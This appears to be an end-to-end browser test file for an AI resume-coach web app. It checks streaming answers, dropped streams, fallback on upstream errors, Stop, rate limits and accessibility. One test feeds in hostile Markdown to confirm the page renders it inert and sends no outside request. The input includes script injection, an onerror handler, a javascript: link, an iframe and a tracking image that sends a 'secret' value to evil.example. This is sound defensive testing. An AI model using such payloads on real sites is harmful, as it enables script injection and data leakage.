// End-to-end scenarios in LLM mode: the real server streams from the fake OpenAI-compatible server
// (tests/fake_llm/fake_llm.py), which reads a `[[fake:...]]` directive in a question to script it.
import { eventually, expect, screenshot, withBrowser } from "./harness.mjs";
import {
  accessibilityViolations,
  answerSettled,
  expectNoSideScroll,
  loadExamplePair,
  openApp,
  sendQuestion,
} from "./flows.mjs";

const SECTION_TITLES = ["Qualification Assessment", "Missing Skills / Experience", "Key Strengths"];

export const llmTests = [];
function test(name, fn) {
  llmTests.push({ name, fn });
}

function uniqueId(prefix) {
  return `${prefix}-${Date.now().toString(36)}-${Math.random().toString(36).slice(2, 8)}`;
}

/**
 * Clicks Analyze and checks the streamed order: the report (score) is on the page while the
 * analysis is still being written, then the three sections arrive. Returns once all are done.
 */
async function analyzeStreamed(page, { shot } = {}) {
  await page
    .getByRole("button", { name: /^Analyze( again)?$/ })
    .first()
    .click();
  await page.waitForFunction(
    () => document.querySelector(".score__ring") && document.querySelector(".analysis__writing"),
    null,
    { timeout: 30_000, polling: "raf" },
  );
  if (shot) {
    await page.locator(".analysis").scrollIntoViewIfNeeded();
    await screenshot(page, shot, { fullPage: false });
  }
  await page.locator(".analysis__writing").waitFor({ state: "detached", timeout: 30_000 });
  for (const title of SECTION_TITLES) {
    expect(
      (await page.getByRole("region", { name: title, exact: true }).count()) === 1,
      `section ${title} is missing after the stream`,
    );
  }
}

/** Records, inside the page, each new text length of the newest answer while it streams. */
async function watchStreamingLengths(page) {
  await page.evaluate(() => {
    const lengths = [];
    window.__answerLengths = lengths;
    const log = document.querySelector('[role="log"]');
    new MutationObserver(() => {
      const answers = log.querySelectorAll(".msg--assistant");
      const last = answers[answers.length - 1];
      if (!last || last.getAttribute("data-state") !== "streaming") return;
      const length = last.querySelector(".markdown")?.textContent.length ?? 0;
      if (length > 0 && lengths[lengths.length - 1] !== length) lengths.push(length);
    }).observe(log, { subtree: true, childList: true, characterData: true, attributes: true });
  });
}

test("LLM: report first, then the analysis streams into its sections with the AI badge; answers arrive token by token", async (server) => {
  await withBrowser(server, { width: 1280, height: 900 }, async ({ page }) => {
    await openApp(page, server.url);
    const header = page.locator(".mode-indicator__button");
    expect((await header.innerText()).trim() === `AI coach: ${server.model}`, "header names the AI model");
    await loadExamplePair(page);
    await analyzeStreamed(page, { shot: "llm-desktop-light-analysis-writing" });
    const badge = (await page.locator(".analysis__meta .mode").innerText()).trim();
    expect(badge === `AI coach · ${server.model}`, `analysis badge: ${badge}`);
    expect((await page.locator(".analysis__notice").count()) === 0, "no fallback notice on an AI analysis");

    await watchStreamingLengths(page);
    const index = await sendQuestion(page, "What should I add first?");
    expect((await answerSettled(page, index)) === "done", "the answer finished");
    const lengths = await page.evaluate(() => window.__answerLengths);
    expect(
      lengths.length >= 2 && lengths.every((n, i) => i === 0 || n > lengths[i - 1]),
      `the answer did not grow over several observations while streaming: ${JSON.stringify(lengths)}`,
    );
    const answer = page.locator(".msg--assistant").nth(index);
    expect((await answer.innerText()).includes("From the AI coach."), "the AI coach's final answer is shown");
    expect(
      (await answer.locator(".mode").innerText()).trim() === `AI coach · ${server.model}`,
      "the answer carries the AI badge",
    );
    expect(
      (await page.getByRole("status").filter({ hasText: "The coach answered:" }).count()) === 1,
      "announced once",
    );
    const violations = await accessibilityViolations(page);
    expect(violations.length === 0, `accessibility violations:\n${violations.join("\n")}`);
    await screenshot(page, "llm-desktop-light-answer");
  });
});

test("LLM: a stream dropped mid-answer shows the partial text as interrupted, and Ask again works", async (server) => {
  await withBrowser(server, { width: 1280, height: 900 }, async ({ page }) => {
    await openApp(page, server.url);
    await loadExamplePair(page);
    await analyzeStreamed(page);
    const index = await sendQuestion(page, "Why is my score low? [[fake:scenario=drop,after=3]]");
    const state = await answerSettled(page, index);
    expect(state === "interrupted", `answer state after a dropped stream: ${state}`);
    const answer = page.locator(".msg--assistant").nth(index);
    expect((await answer.locator(".markdown").innerText()).trim().length > 0, "the partial text stays");
    expect((await answer.getByText("Interrupted", { exact: true }).count()) === 1, "marked Interrupted");
    await answer.scrollIntoViewIfNeeded();
    await screenshot(page, "llm-desktop-light-interrupted", { fullPage: false });
    // Ask again sends the same question (directive included, so it drops again) as a new turn.
    await answer.getByRole("button", { name: "Ask again" }).click();
    expect((await answerSettled(page, index + 1)) === "interrupted", "asked again as a new turn");
    const questions = await page.locator(".msg--user").allInnerTexts();
    expect(
      questions.length === 2 && questions[0] === questions[1],
      `questions: ${JSON.stringify(questions)}`,
    );
    // After a reload the server's record of the turn still says it was interrupted.
    await page.reload();
    await page.getByRole("heading", { name: /^Your report/ }).waitFor();
    await page.locator(".msg--assistant").first().waitFor();
    const restored = await page.locator('.msg--assistant[data-state="interrupted"]').count();
    expect(restored === 2, `restored interrupted answers: ${restored}`);
  });
});

test("LLM: an upstream 503 gives the built-in coach's answer with the fallback notice (375 px, light and dark)", async (server) => {
  for (const colorScheme of ["light", "dark"]) {
    await withBrowser(server, { width: 375, height: 812, colorScheme }, async ({ page }) => {
      await openApp(page, server.url);
      await loadExamplePair(page);
      await analyzeStreamed(page, { shot: `llm-phone-${colorScheme}-analysis-writing` });
      const index = await sendQuestion(page, "What am I missing? [[fake:scenario=status,code=503]]");
      expect((await answerSettled(page, index)) === "done", "the answer finished");
      const answer = page.locator(".msg--assistant").nth(index);
      const notice = (await answer.locator(".msg__notice").innerText()).trim();
      expect(/built-in coach/i.test(notice), `notice: ${notice}`);
      const badge = (await answer.locator(".mode").innerText()).trim();
      expect(badge === "Built-in coach", `badge on the fallback answer: ${badge}`);
      await answer.scrollIntoViewIfNeeded();
      await expectNoSideScroll(page);
      const violations = await accessibilityViolations(page);
      expect(violations.length === 0, `accessibility violations (${colorScheme}):\n${violations.join("\n")}`);
      await screenshot(page, `llm-phone-${colorScheme}-notice`, { fullPage: false });
    });
  }
});

test("LLM: hostile Markdown echoed by the model renders inert while streaming and after, with no foreign request", async (server) => {
  await withBrowser(server, { width: 1280, height: 900 }, async (browser) => {
    const { page } = browser;
    await openApp(page, server.url);
    await loadExamplePair(page);
    await analyzeStreamed(page);
    const hostile = [
      "[[fake:scenario=echo,token_delay_ms=20]]",
      "Look: <script>window.__pwned = 1</script>",
      '<img src="https://evil.example/pixel.png" onerror="window.__pwned = 2">',
      "![tracker](https://evil.example/track.png?q=secret)",
      '[click me](javascript:window.__pwned=3) and <iframe src="https://evil.example/f"></iframe>',
    ].join("\n");
    const index = await sendQuestion(page, hostile);
    // While it streams, the partial Markdown already goes through the safe renderer.
    await page.waitForFunction(
      (i) => {
        const m = document.querySelectorAll(".msg--assistant")[i];
        return m && m.getAttribute("data-state") === "streaming" && m.querySelector(".markdown");
      },
      index,
      { timeout: 15_000, polling: "raf" },
    );
    const main = page.locator("main");
    expect((await main.locator("script, img, iframe").count()) === 0, "nothing active while streaming");
    await answerSettled(page, index);
    const text = await page.locator(".msg--assistant").nth(index).innerText();
    expect(/evil\.example|click me|tracker/.test(text), `the hostile text did not come back:\n${text}`);
    expect((await main.locator("script, img, iframe").count()) === 0, "no script, image or frame");
    expect((await main.locator('[href^="javascript:" i]').count()) === 0, "no javascript: link");
    expect((await main.locator("[onerror]").count()) === 0, "no event handler attributes");
    expect((await page.evaluate(() => window.__pwned)) === undefined, "no hostile script ran");
    expect(browser.foreign.length === 0, `requests left the origin: ${browser.foreign.join(", ")}`);
  });
});

test("LLM: Stop mid-answer closes the stream (the fake upstream sees the disconnect) and keeps the text", async (server) => {
  // Asking again right after Stop may meet the server's "still answering" 429 once; the page
  // retries it by itself, but Chromium still logs the failed response.
  const expectedHttpErrors = [{ status: 429, path: "/chat" }];
  await withBrowser(server, { width: 1280, height: 900, expectedHttpErrors }, async ({ page }) => {
    await openApp(page, server.url);
    await loadExamplePair(page);
    await analyzeStreamed(page);
    const id = uniqueId("stop");
    const index = await sendQuestion(
      page,
      `Walk me through my gaps [[fake:scenario=auto,token_delay_ms=250,id=${id}]]`,
    );
    const answer = page.locator(".msg--assistant").nth(index);
    await page.waitForFunction(
      (i) =>
        (document.querySelectorAll(".msg--assistant")[i]?.querySelector(".markdown")?.textContent.length ??
          0) > 20,
      index,
      { timeout: 15_000 },
    );
    expect((await answer.getAttribute("data-state")) === "streaming", "still streaming before Stop");
    await answer.scrollIntoViewIfNeeded();
    await screenshot(page, "llm-desktop-light-chat-streaming", { fullPage: false });
    await page.getByRole("button", { name: "Stop" }).click();
    expect((await answerSettled(page, index, 5_000)) === "stopped", "the answer is marked stopped");
    const stats = await eventually(
      async () => {
        const s = await server.fake.stats(id);
        return s.disconnects >= 1 ? s : null;
      },
      3_000,
      "the fake upstream never saw the disconnect",
    );
    expect(stats.requests === 1, `upstream requests: ${stats.requests}`);
    expect((await answer.getByText("Stopped", { exact: true }).count()) === 1, "marked Stopped");
    expect(await page.getByRole("button", { name: "Send" }).isVisible(), "Send is back");
    // Asking again at once works even if the server is still closing the stopped answer.
    await answer.getByRole("button", { name: "Ask again" }).click();
    await page.waitForFunction(
      (i) =>
        (document.querySelectorAll(".msg--assistant")[i]?.querySelector(".markdown")?.textContent.length ??
          0) > 0,
      index + 1,
      { timeout: 15_000 },
    );
    await page.getByRole("button", { name: "Stop" }).click();
    expect((await answerSettled(page, index + 1, 5_000)) === "stopped", "the second answer is stopped too");
    expect((await page.getByRole("alert").count()) === 0, "no error was shown");
    await eventually(
      async () => (await server.fake.stats(id)).disconnects >= 2,
      3_000,
      "the second stream was not closed upstream",
    );
  });
});

test("LLM: phone 375 px, dark and light, while an answer streams (screenshots), no sideways scroll", async (server) => {
  for (const colorScheme of ["dark", "light"]) {
    await withBrowser(server, { width: 375, height: 812, colorScheme }, async ({ page }) => {
      await openApp(page, server.url);
      const header = page.locator(".mode-indicator__button");
      await header.click();
      expect(await page.locator(".mode-indicator__about").isVisible(), "the mode explanation opens");
      await expectNoSideScroll(page);
      await screenshot(page, `llm-phone-${colorScheme}-mode-explained`, { fullPage: false });
      await page.keyboard.press("Escape");
      await loadExamplePair(page);
      await analyzeStreamed(page);
      const index = await sendQuestion(
        page,
        "How do I prepare for the interview? [[fake:scenario=auto,token_delay_ms=120]]",
      );
      await page.waitForFunction(
        (i) =>
          (document.querySelectorAll(".msg--assistant")[i]?.querySelector(".markdown")?.textContent.length ??
            0) > 30,
        index,
        { timeout: 15_000 },
      );
      await page.locator(".msg--assistant").nth(index).scrollIntoViewIfNeeded();
      await expectNoSideScroll(page);
      await screenshot(page, `llm-phone-${colorScheme}-chat-streaming`, { fullPage: false });
      expect((await answerSettled(page, index)) === "done", "the answer finished");
      const violations = await accessibilityViolations(page);
      expect(violations.length === 0, `accessibility violations (${colorScheme}):\n${violations.join("\n")}`);
    });
  }
});

/** Scenarios for a server that allows one AI question per session per minute. */
export const llmLimitTests = [
  {
    name: "LLM: over the per-session limit, the 429 says when to try again and the question stays in the box",
    async fn(server) {
      const expectedHttpErrors = [{ status: 429, path: "/chat" }];
      await withBrowser(server, { width: 1280, height: 900, expectedHttpErrors }, async ({ page }) => {
        await openApp(page, server.url);
        await loadExamplePair(page);
        await analyzeStreamed(page);
        const first = await sendQuestion(page, "What should I add first?");
        expect((await answerSettled(page, first)) === "done", "the first question is answered");
        const box = page.getByLabel("Your question");
        await box.fill("And what next?");
        await box.press("Enter");
        const alert = page.getByRole("alert").filter({ hasText: "limited to a few questions a minute" });
        await alert.waitFor({ timeout: 15_000 });
        const text = await alert.innerText();
        expect(/try again in \d+ s/.test(text), `the alert does not say when: ${text}`);
        expect((await box.inputValue()) === "And what next?", "the question is back in the box");
        expect(await page.getByRole("button", { name: "Send" }).isEnabled(), "Send is ready to retry");
        expect((await page.locator(".msg--assistant").count()) === 1, "no empty answer was left behind");
        await page.mouse.move(0, 0);
        await screenshot(page, "llm-desktop-light-rate-limited", { fullPage: false });
      });
    },
  },
];
